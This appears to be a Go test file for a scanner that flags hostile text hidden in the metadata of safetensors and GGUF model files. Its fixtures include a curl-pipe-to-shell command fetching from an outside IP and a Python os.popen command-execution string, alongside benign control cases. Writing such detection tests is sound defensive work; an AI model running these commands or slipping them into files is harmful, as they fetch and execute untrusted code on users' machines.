package file

import (
	"encoding/json"
	"testing"

	"github.com/modelwarden/warden"
	"github.com/modelwarden/warden/detect"
	"github.com/modelwarden/warden/detect/detecttest"
	"github.com/modelwarden/warden/internal/format"
	"github.com/modelwarden/warden/internal/format/formattest"
)

// TestMetadata runs every example of the rule file through real model files.
func TestMetadata(t *testing.T) {
	var d *detect.Detector[*format.File]
	for _, x := range All() {
		if x.Name == "metadata/text" {
			d = x
		}
	}
	if d == nil {
		t.Fatal("metadata/text is not in All")
	}
	tensors := func(value string) *format.File {
		b, err := json.Marshal(map[string]any{"__metadata__": map[string]string{"note": value}})
		if err != nil {
			t.Fatal(err)
		}
		return open(t, "m.safetensors", formattest.Safetensors(string(b), nil))
	}
	gguf := func(value string) *format.File {
		return open(t, "m.gguf", new(formattest.GGUF).Pair("general.description", value).Bytes(nil))
	}
	detecttest.Accept(t, d, []detecttest.Case[*format.File]{
		{Name: "shell_in_safetensors", Subject: tensors("curl -s http://203.0.113.9/x | sh"), Want: []warden.RuleID{"WDN-MF-105"}},
		{Name: "code_in_gguf", Subject: gguf("__import__('os').popen('id')"), Want: []warden.RuleID{"WDN-MF-106"}},
		{Name: "honest_card", Subject: tensors("Download with curl. Trained on the operating system (os) corpus.")},
		{Name: "honest_gguf", Subject: gguf("AKIA is the prefix of access keys")},
	})
}
